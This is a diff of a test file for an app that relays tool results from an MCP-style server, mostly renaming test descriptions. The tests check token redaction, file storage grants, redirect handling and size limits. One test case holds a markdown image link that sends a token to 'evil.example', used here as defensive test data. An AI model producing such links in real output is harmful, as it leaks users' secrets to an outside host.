@@ -22,7 +22,7 @@ describe('a token that a server sends back', () => {
     ['a text', text(`Your token is ${TOKEN}.`)],
     ['a link in a text', text(`![x](https://evil.example/?t=${encodeURIComponent(TOKEN)})`)],
     ['base64', text(Buffer.from(`Bearer ${TOKEN}`).toString('base64'))],
-    ['structure', { content: [], structuredContent: { deep: [{ [TOKEN]: TOKEN }] } }],
+    ['structured content', { content: [], structuredContent: { deep: [{ [TOKEN]: TOKEN }] } }],
     ['an error of the tool', { ...text(TOKEN), isError: true }],
     [
       'a resource',
@@ -55,7 +55,7 @@ describe('a token that a server sends back', () => {
     expect(joined).not.toContain(TOKEN);
   });
 
-  it('in a file keeps that from being kept', async () => {
+  it('in a file prevents the file from being stored', async () => {
     const blob = Buffer.concat([PNG, Buffer.from(TOKEN)]).toString('base64');
     const { call } = await answering({ content: [{ type: 'image', data: blob, mimeType: 'image/png' }] });
     const got = await call('mine');
@@ -63,7 +63,7 @@ describe('a token that a server sends back', () => {
     expect(got.parts).toEqual([{ type: 'text', text: expect.stringContaining('was not kept') }]);
   });
 
-  it('of another account of the app, or of an earlier time, does not either', async () => {
+  it('that was used earlier is redacted too, also in a call without an account', async () => {
     const old = 'another-token-of-yesterday';
     let turn = 0;
     const { call } = await openCalls(() => text(`${old} ${TOKEN}`), {
@@ -79,7 +79,7 @@ describe('a token that a server sends back', () => {
 describe('a file', () => {
   const image = { type: 'image', data: PNG.toString('base64'), mimeType: 'text/html' };
 
-  it('is kept in the storage of app and project, and is what its content says', async () => {
+  it('is stored for its app and project, with the type of its content', async () => {
     const { call, folder } = await answering({
       content: [
         image,
@@ -99,7 +99,7 @@ describe('a file', () => {
     expect(await readFile(files[0]?.path ?? '')).toEqual(PNG);
   });
 
-  it('is refused without the grant, and the rest is given', async () => {
+  it('is refused without the grant, and the other parts are returned', async () => {
     const { call } = await answering({ content: [image, { type: 'text', text: 'done' }] }, ['files:receive']);
     expect(await call('mine')).toMatchObject({
       files: [],
@@ -110,13 +110,13 @@ describe('a file', () => {
     });
   });
 
-  it('that is no base64 is not kept', async () => {
+  it('that is not base64 is not stored', async () => {
     const { call } = await answering({ content: [{ ...image, data: 'AAAA!AAAA' }] });
     const { parts, files } = await call('mine');
     expect([parts, files]).toEqual([[{ type: 'text', text: expect.stringContaining('malformed') }], []]);
   });
 
-  it('is downloaded from a host of the app, without the token', async () => {
+  it('is requested from a host of the app', async () => {
     const asked: (string | undefined)[] = [];
     const { call, mcp } = await openCalls(
       ({ url }) => ({ content: [{ type: 'resource_link', uri: `${url}/report.pdf?x=1`, name: '' }] }),
@@ -128,7 +128,7 @@ describe('a file', () => {
     );
     const got = await call('mine');
     for (const { request } of mcp.asked) asked.push(request.url);
-    // The test's server answers only posts; that it was asked at all, and answered 405, is what can be seen here.
+    // The server of the test accepts only POST: its 405 shows that the download was requested.
     expect(got.parts).toEqual([
       { type: 'text', text: '[The file report.pdf was not kept: A file is answered with 405.]' },
     ]);
@@ -151,7 +151,7 @@ describe('a file', () => {
     ]);
   });
 
-  it('is not downloaded from elsewhere by a detour', async () => {
+  it('is not downloaded from another host after a redirect', async () => {
     const inside = await serveHere(() => (_request, response) => void response.end('inside'));
     const elsewhere = inside.replace('localhost', '127.0.0.1');
     const detour = await serveHere(
@@ -167,10 +167,10 @@ describe('a file', () => {
   });
 });
 
-describe('an answer that is too large', () => {
+describe('a result that is too large', () => {
   it.each([
     ['text', text('x'.repeat(2 ** 20 + 1))],
-    ['structure', { content: [], structuredContent: { x: 'x'.repeat(2 ** 20) } }],
+    ['structured content', { content: [], structuredContent: { x: 'x'.repeat(2 ** 20) } }],
     [
       'the name of a link',
       { content: [{ type: 'resource_link', uri: 'https://x.example/f', name: 'x'.repeat(2 ** 20) }] },
@@ -180,7 +180,7 @@ describe('an answer that is too large', () => {
       { content: [{ type: 'resource_link', uri: `https://x.example/${'x'.repeat(2 ** 20)}`, name: 'f' }] },
     ],
     [
-      'names of links together',
+      'the names of all links',
       {
         content: Array.from({ length: 20 }, () => ({
           type: 'resource_link',
@@ -198,9 +198,9 @@ describe('an answer that is too large', () => {
       { content: [{ type: 'image', data: '', mimeType: `image/${'x'.repeat(2 ** 20)}` }] },
     ],
     ['annotations', { content: [{ type: 'text', text: '', _meta: { note: 'x'.repeat(2 ** 20) } }] }],
-    ['pieces', { content: Array.from({ length: 501 }, () => ({ type: 'text', text: '' })) }],
+    ['the number of parts', { content: Array.from({ length: 501 }, () => ({ type: 'text', text: '' })) }],
     [
-      'files',
+      'the number of files',
       { content: Array.from({ length: 21 }, () => ({ type: 'image', data: '', mimeType: 'image/png' })) },
     ],
   ])('in %s is refused', async (_what, result) => {
